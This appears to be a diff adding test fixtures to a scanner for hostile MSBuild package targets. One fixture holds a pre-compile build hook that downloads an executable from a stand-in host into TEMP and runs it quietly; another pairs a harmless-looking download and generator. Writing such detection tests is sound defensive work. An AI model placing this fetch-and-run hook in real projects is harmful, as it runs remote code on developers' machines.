@@ -86,6 +86,36 @@ System.Diagnostics.Process.Start(path);`),
       },
     },
     {
+      name: 'through-a-property',
+      about: 'One command fetches to where a property says, another starts what lies there.',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <PropertyGroup><WarmUp>$(TEMP)\\warm.exe</WarmUp></PropertyGroup>
+  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
+          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <Exec Command="curl -o &quot;$(WarmUp)&quot; https://files.fixture.invalid/a" />
+    <Exec Command="&quot;$(TEMP)\\warm.exe&quot; --quiet" />
+  </Target>
+</Project>
+`,
+      },
+    },
+    {
+      name: 'unrelated-commands',
+      about: 'One command fetches news, another starts a generator: noted, for they do not meet.',
+      level: 'note',
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="PrepareFixture" BeforeTargets="CoreCompile"
+          Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <Exec Command="curl -o obj/news.json https://docs.fixture.invalid/news.json" />
+    <Exec Command="tools/generate.exe --quiet" />
+  </Target>
+</Project>
+`,
+      },
+    },
+    {
       name: 'shell-pipe',
       about: 'A command line that evaluates what it downloads.',
       files: {
